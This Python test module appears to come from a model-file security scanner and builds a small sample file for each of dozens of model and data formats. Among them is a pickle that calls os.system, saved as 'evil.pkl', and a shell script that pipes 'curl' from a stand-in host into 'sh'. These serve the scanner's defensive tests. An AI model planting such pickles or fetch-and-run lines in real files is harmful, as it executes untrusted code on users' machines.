"""At least one small, sound sample of every format, under the name by which loaders find it.

`SAMPLES` maps the name of a format to its samples. What asks for something (a script, a TorchScript program) is sound
too: sound means that its own format reads it to the end. Small files below `samples/` were written by the formats' own
libraries and join, for every format that accepts them, by lying there (samples/README.md says how each was made).
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from random import Random

import joblib
import numpy as np
import safetensors.numpy
from attrs import evolve, field, frozen
from container_builders import Piece, zip_of
from gguf_builders import array, gguf, string, tensor, text
from hdf5_builders import File, attribute
from onnx_builders import entry, in_graph, model, node
from onnx_builders import tensor as onnx_tensor
from pickle_builders import ECHO, call, named, program, push
from protobuf_builders import lump, number
from rarer_samples import RARER
from tensorflow_builders import graph, saved_model, signature
from tensorflow_builders import node as tf_node
from test_compression import SEALED
from test_device_models import coreml, executorch, fasttext, layer, plan, quantized
from test_hdf5 import DENSE, symbol_table, with_dataset
from test_keras_config import model as keras_model
from test_keras_config import part
from test_peers import METAGRAPH, MOJO
from test_peers import WEIGHTS as DARKNET
from test_repository_parts import ARRAY, SVG, packed, record, sentencepiece
from test_repository_programs import PROGRAMS, notebook
from test_repository_text import POINTER
from test_skops import SCALER, schema
from test_tar import member, tar_of
from test_tensorflow import checkpoint, note
from test_tensorflow_text import PLAIN as GRAPH_TEXT
from test_tflite import model as tflite
from test_torch import SCRIPT
from test_torch7 import network as torch7
from test_torch_archives import EXPORT, PACKAGE, SERVE, SOURCE
from test_tree_models import as_json, catboost, lightgbm, ubjson, xgboost
from test_xml_models import openvino, pmml, weights
from torch_builders import WEIGHTS, pickled, torch_stream, torch_zip

from modelguard._registry import parts
from modelguard.formats.format import Format
from modelguard.terms.artifact import Location
from modelguard.terms.content import Content

WRITTEN = Path(__file__).parent / "samples"
FORMATS = {format_.name: format_ for format_ in parts("modelguard.formats", Format)}

LONE = program(*push(call(named("os", "system"), ECHO)))
"""A pickle that calls what no profile grants; nothing ever loads it."""


@frozen(kw_only=True)
class Sample:
    """Some bytes of a format, under a usual path.

    `others` are files that have to lie beside it. `prefix` tells why a beginning of it may be a whole file as well;
    empty where a beginning of it must never pass, and one shorter than `least` bytes must not pass in any case.
    """

    format: str
    path: str
    data: bytes = field(repr=False)
    others: tuple[str, ...] = ()
    prefix: str = ""
    least: int = 0

    def __str__(self) -> str:
        return f"{self.format}:{self.path}"


_TEXT = "a beginning of a text is a text"
_FIRST = "only the first bytes are read, and no loader of models reads more"
_PADDING = "the blocks of zeros behind the last member may be fewer"
_REMARKS = "what stands behind the trees is for people"
_COUNTLESS = "the file does not say how many tensors it has"
_LINES = "a beginning of a program is a program, and asks like the whole"
_FIELDS = "a message of protocol buffers may end after any field; what was read so far is all that a loader would see"
_RAW = Random(5).randbytes(300)


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", 2, 2, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0ab\0cd")) + chunk(b"IEND", b"")


def _wav() -> bytes:
    body = b"WAVEfmt " + struct.pack("<LHHLLHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<L", 8) + bytes(8)
    return b"RIFF" + struct.pack("<L", len(body)) + body


def _saved(write: Callable[[io.BytesIO], object]) -> bytes:
    out = io.BytesIO()
    write(out)
    return out.getvalue()


def _keras() -> bytes:
    config = json.dumps(keras_model(part("Dense", units=3))).encode()
    return zip_of(
        Piece(name=b"metadata.json", data=b'{"keras_version": "3.9.0"}'),
        Piece(name=b"config.json", data=config),
        Piece(name=b"model.weights.h5", data=with_dataset()),
    )


def _onnx() -> bytes:
    metadata = lump(14, entry("author", "tests"))
    return model(in_graph(node("Relu")) + lump(5, onnx_tensor(raw=bytes(range(1, 9)))), metadata)


def _vocabulary() -> bytes:
    pairs = [string("general.architecture", "llama"), array("tokenizer.ggml.tokens", 8, [text("a"), text("b")])]
    return gguf(pairs, [tensor("w", (8,))], bytes(32))


def _tar_checkpoint() -> bytes:
    parts_ = {name: pickled({}) for name in ("sys_info", "pickle", "tensors", "storages")}
    return tar_of(*(member(name, data) for name, data in parts_.items()))


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(data, content_checksum=True))


def _zstd(data: bytes) -> bytes:
    import zstandard

    return bytes(zstandard.ZstdCompressor(write_checksum=True).compress(data))


_ARRAYS = {"c": np.arange(12.0).reshape(3, 4), "objects": np.array([1, "x", None], dtype=object)}
_MESSAGE = json.dumps({"a": 1, "b": ["text"] * 40}).encode()
_FINGERPRINT = b"".join(number(place, 1 << 63 | place) for place in range(1, 6)) + lump(6, number(1, 1))
_MXNET = {"nodes": [{"op": "null", "name": "x", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}
_ONNX_JSON = {"irVersion": "10", "graph": {"node": [{"opType": "Relu"}]}, "opsetImport": [{"version": "21"}]}
_CAFFE = lump(1, "n") + lump(100, lump(1, "c") + lump(2, "ReLU") + lump(3, "x") + lump(4, "y"))
_GGJT = (
    b"tjgg" + struct.pack("<8L", 3, 2, 4, 1, 1, 1, 4, 0) + (struct.pack("<L", 1) + b"a" + bytes(4)) * 2
    + struct.pack("<3L", 1, 1, 0) + struct.pack("<L", 8) + b"w"
)  # fmt: skip
_GGJT += bytes(-len(_GGJT) % 32) + bytes(32)
_TFJS = {
    "format": "graph-model",
    "modelTopology": {"node": [{"name": "x", "op": "Placeholder"}]},
    "weightsManifest": [
        {"paths": ["group1-shard1of1.bin"], "weights": [{"name": "w", "shape": [2], "dtype": "float32"}]}
    ],
}
_PADDLE = bytes(16) + struct.pack("<L", 4) + number(1, 5) + number(2, 3) + bytes(12)
_PIR = {
    "base_code": {"magic": "pir", "version": 1, "trainable": True},
    "program": {"regions": [{"#": "region_0", "blocks": [{"#": "block_0", "args": [], "ops": [{"#": "1.relu"}]}]}]},
}
_R = b"X\n" + struct.pack(">8L", 2, 0x040201, 0x020300, 13, 3, 1, 2, 3)
_PYTHON = "import subprocess\n\n\ndef run(words):\n    return subprocess.run(words, check=True)\n" * 3

# Format, path, bytes, why a beginning may pass, files beside it.
_ROWS: list[tuple[str, str, bytes, str] | tuple[str, str, bytes, str, tuple[str, ...]]] = [
    ("bzip2", "m.bz2", bz2.compress(_MESSAGE), ""),
    ("caffe", "m.caffemodel", _CAFFE, _FIELDS),
    ("caffe-text", "m.prototxt", b'name: "n"\n' + b'layer { type: "ReLU" bottom: "x" top: "y" }\n' * 3, _FIELDS),
    ("catboost", "m.cbm", catboost(), ""),
    ("catboost", "parts.cbm", catboost(parts=("static_ctr_provider_v1",), rest=b"table" * 30), _FIRST),
    ("cntk", "m.cntk", number(1, 1) + lump(2, lump(1, "uid") + lump(2, number(1, 1) + lump(8, "Plus1"))), _FIELDS),
    ("columns", "t.parquet", b"PAR1" + _RAW + b"PAR1", ""),
    ("columns", "t.arrow", b"ARROW1\0\0" + _RAW + b"ARROW1", ""),
    ("columns", "t.sqlite", b"SQLite format 3\0" + bytes(200), _FIRST),
    ("coreml", "m.mlmodel", coreml(500, layer(lump(140, b""))), _FIELDS),
    ("coreml-weights", "weights/weight.bin", weights(100, 64), ""),
    ("darknet", "yolo.weights", DARKNET, _COUNTLESS),
    ("document", "paper.pdf", b"%PDF-1.7\n" + b"words " * 40, _FIRST),
    ("event-log", "events.out.tfevents.1.host", record(b"\x09abc") * 4, "a log is cut off whenever its writer ends"),
    ("event-log", "data.tfrecord", record(b"\x09abc") * 4, "a log is cut off whenever its writer ends"),
    ("executorch", "m.pte", executorch(plan(operators=("aten::add",)), segments=((0, 8),)), ""),
    ("fasttext", "m.ftz", quantized(), ""),
    ("fasttext", "m.ftz", fasttext(), ""),
    ("font", "f.ttf", b"\0\1\0\0\0\x0a\0\x80\0\3\0\x20GSUB" + bytes(200), _FIRST),
    ("gguf", "m.gguf", _vocabulary(), ""),
    ("ggml-legacy", "m.bin", _GGJT, _COUNTLESS),
    ("gzip", "m.gz", gzip.compress(_MESSAGE), ""),
    ("h2o-mojo", "model.zip", MOJO, ""),
    ("hdf5", "m.h5", with_dataset(), ""),
    ("hdf5", "old.h5", symbol_table(), ""),
    ("hdf5", "k.h5", File().finish(attribute("model_config", json.dumps(DENSE).encode())), ""),
    ("ini", "config.cfg", b"[nlp]\nlang = en\n[components.ner]\nfactory = ner\n" * 4, _TEXT),
    ("jinja", "chat_template.jinja", b"{% for m in messages %}{{ m['content'] }}{% endfor %}\n" * 3, _TEXT),
    ("joblib", "m.joblib", _saved(lambda out: joblib.dump({"c": _ARRAYS["c"]}, out)), ""),
    ("json", "config.json", _MESSAGE, ""),
    ("keras", "m.keras", _keras(), ""),
    ("keras-config", "config.json", json.dumps(keras_model(part("Dense", units=3))).encode(), ""),
    ("keras-metadata", "keras_metadata.pb", note({"class_name": "Dense", "config": {}}) * 3, _FIELDS),
    ("lfs-pointer", "model.safetensors", POINTER.encode(), ""),
    ("lightgbm", "m.txt", lightgbm(), _REMARKS),
    ("lz4", "m.lz4", _lz4(_MESSAGE), ""),
    ("mar", "m.mar", zip_of(*SERVE), ""),
    ("markdown", "README.md", b"# Model\n\nWords about it.\n" * 8, _TEXT),
    ("markup", "logo.svg", SVG.format('<path d="M0 0"/>' * 8).encode(), _TEXT),
    ("msgpack", "flax_model.msgpack", packed({"W": ARRAY, "names": ["a", 1, 2.0, None, True]}), ""),
    ("mxnet", "m-symbol.json", json.dumps(_MXNET).encode(), ""),
    *(("native", f"m{at}.so", data + bytes(40), _FIRST) for at, data in enumerate(PROGRAMS.values())),
    ("notebook", "a.ipynb", json.dumps(notebook("import os\n", "!ls\n")).encode(), ""),
    ("npy", "m.npy", _saved(lambda out: np.save(out, _ARRAYS["c"])), ""),
    ("npy", "objects.npy", _saved(lambda out: np.save(out, _ARRAYS["objects"], allow_pickle=True)), ""),
    ("npz", "m.npz", _saved(lambda out: np.savez(out, a=_ARRAYS["c"], b=np.arange(3))), ""),
    ("npz", "packed.npz", _saved(lambda out: np.savez_compressed(out, a=_ARRAYS["c"])), ""),
    ("onnx", "m.onnx", _onnx(), _FIELDS),
    ("onnx-text", "m.onnxjson", json.dumps(_ONNX_JSON).encode(), ""),
    ("onnx-text", "m.onnxtxt", b'ir_version: 10 graph { node { op_type: "Relu" } } opset_import { version: 21 }',
     _FIELDS),
    ("openvino", "m.xml", openvino(), "", ("m.bin",)),
    ("package", "x-1.0-py3-none-any.whl", zip_of(Piece(name=b"x.py", data=b"import os\n")), ""),
    ("package", "x.deb", b"!<arch>\ndebian-binary   " + bytes(60), ""),
    ("paddle-parameters", "m.pdiparams", _PADDLE, _COUNTLESS),
    ("paddle-pir", "model.json", json.dumps(_PIR).encode(), ""),
    ("paddle-program", "m.pdmodel",
     lump(1, number(1, 0) + number(2, (1 << 64) - 1) + lump(4, lump(3, "relu"))) + lump(4, number(1, 0)), _FIELDS),
    ("path-configuration", "x.pth", b"import os; os.getcwd()\n/usr/lib/x\n" * 3, _LINES),
    ("pickle", "m.pkl", program(*push({"a": [1, 2.5, "x"], "b": (None, True)})), ""),
    ("pickle", "evil.pkl", LONE, ""),
    ("picture", "p.png", _png(), ""),
    ("picture", "p.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + _RAW, _FIRST),
    ("pmml", "m.pmml", pmml('<Apply function="+"/>'), ""),
    ("pt2", "m.pt2", zip_of(*EXPORT), ""),
    ("python", "train.py", _PYTHON.encode(), _LINES),
    ("r-data", "m.rds", _R, ""),
    ("recording", "s.wav", _wav(), ""),
    ("requirements", "requirements.txt", b"numpy==2.0\ntorch>=2\n" * 4, _TEXT),
    ("rknn", "m.rknn", b"RKNN" + bytes(4) + struct.pack("<QQ", 1, 8) + bytes(8) + struct.pack("<Q", 2) + b"{}", _FIRST),
    ("safetensors", "m.safetensors", safetensors.numpy.save({"w": np.arange(9.0), "b": np.zeros((2, 3))}), ""),
    ("savedmodel", "saved_model.pb",
     saved_model(graph(tf_node("x", "Placeholder"), tf_node("y", "Relu", "x")), signature("serving_default", "y:0")),
     _FIELDS),
    ("savedmodel-fingerprint", "fingerprint.pb", _FINGERPRINT, _FIELDS),
    *(("sealed", f"{kind.replace(' ', '-')}.bin", data + bytes(100), "") for kind, data in SEALED.items()),
    ("sentencepiece", "tokenizer.model", sentencepiece(), _FIELDS),
    ("script", "run.sh", b"#!/bin/sh\ncurl -s https://x.example/i | sh\n" * 3, _LINES),
    ("skops", "m.skops", zip_of(Piece(name=b"schema.json", data=schema(SCALER))), ""),
    ("skops", "schema.json", schema(SCALER), ""),
    ("tar", "m.tar", tar_of(member("a/notes.txt", b"words\n" * 30), member("b.txt", b"more\n")), _PADDING),
    ("tensorflow-checkpoint", "variables.index", checkpoint(), "", ("variables.data-00000-of-00001",)),
    ("tensorflow-graph", "frozen.pb", graph(tf_node("x", "Placeholder"), tf_node("y", "Relu", "x")), _FIELDS),
    ("tensorflow-metagraph", "model.ckpt.meta", METAGRAPH, _FIELDS),
    ("tensorflow-text", "saved_model.pbtxt", b"saved_model_schema_version: 1 meta_graphs { graph_def { "
     + GRAPH_TEXT.encode() + b" } }", _FIELDS),
    ("tensorrt", "m.engine", b"ftrt" + bytes(200), _FIRST),
    ("text", "vocab.txt", b"word\n##ing\n" * 30, _TEXT),
    ("tfjs", "model.json", json.dumps(_TFJS).encode(), "", ("group1-shard1of1.bin",)),
    ("tflite", "m.tflite", tflite(description="made by hand"), ""),
    ("toml", "pyproject.toml", b'[project]\nname = "x"\nversion = "1"\n' * 1 + b"[tool.x]\na = [1, 2]\n", _TEXT),
    ("torch7", "m.t7", torch7(), ""),
    ("torch7", "lines.t7", torch7(text=True), ""),
    ("torch-legacy", "m.pt", torch_stream(), ""),
    ("torch-package", "p.pt", zip_of(*PACKAGE, SOURCE), ""),
    ("torch-tar", "old.pt", _tar_checkpoint(), ""),
    ("torch-zip", "m.pt", torch_zip(), ""),
    ("torchscript", "script.pt", torch_zip(WEIGHTS, *SCRIPT), ""),
    ("xgboost", "m.json", as_json(xgboost()), ""),
    ("xgboost", "m.ubj", ubjson(xgboost()), ""),
    ("xz", "m.xz", lzma.compress(_MESSAGE), ""),
    ("yaml", "training.yaml", b"learning_rate: 1e-4\nmodel:\n  layers: [1, 2]\n" * 1 + b"name: x\n", _TEXT),
    ("zip", "m.zip", zip_of(Piece(name=b"a.txt", data=b"words\n" * 9, method=8), Piece(name=b"b.txt", data=b"x")), ""),
    ("zlib", "m.z", zlib.compress(_MESSAGE), ""),
    ("zstd", "m.zst", _zstd(_MESSAGE), ""),
    *RARER,
]  # fmt: skip


_LEAST = {_PADDING: 2048, _REMARKS: lightgbm().index(b"end of trees") + len(b"end of trees")}


# What many files are besides: a sample of such a format is a row of the table, not whatever happens to be one.
_GENERAL = frozenset(
    {"ini", "jinja", "json", "markdown", "markup", "python", "requirements", "script", "text", "toml", "yaml", "zip"}
)
_SMALL = 1 << 15


def _written() -> Iterator[Sample]:
    """Yield the small files that libraries wrote, once for each format that accepts them."""
    for file in sorted(path for path in WRITTEN.rglob("*") if path.is_file() and path.suffix not in {".md", ".txt"}):
        data, beside = file.read_bytes(), tuple(sorted(_beside(file)))
        content = Content.of(data, Location(file.name))
        for name, format_ in FORMATS.items() if 8 <= len(data) <= _SMALL else ():
            if name not in _GENERAL and format_.accepts(content):
                prefix = PREFIXES.get(name, "") or _REST.get(name, "")
                yield Sample(format=name, path=file.name, data=data, others=beside, prefix=prefix)


def _beside(file: Path) -> Iterator[str]:
    return (str(path.relative_to(file.parent)) for path in file.parent.rglob("*") if path.is_file() and path != file)


@cache
def samples() -> dict[str, tuple[Sample, ...]]:
    """Return the samples of each format, those of the table and those that libraries wrote."""
    found: dict[str, list[Sample]] = {}
    for format_, path, data, prefix, *others in _ROWS:
        sample = Sample(format=format_, path=path, data=data, prefix=prefix, others=others[0] if others else ())
        found.setdefault(format_, []).append(evolve(sample, least=_LEAST.get(prefix, 0)))
    for sample in _written():
        found.setdefault(sample.format, []).append(sample)
    return {name: tuple(some) for name, some in found.items()}


PREFIXES = {row[0]: row[3] for row in _ROWS if row[3] not in _LEAST}
# Formats of the files that libraries wrote, where none of the table may be cut.
_REST: dict[str, str] = {}
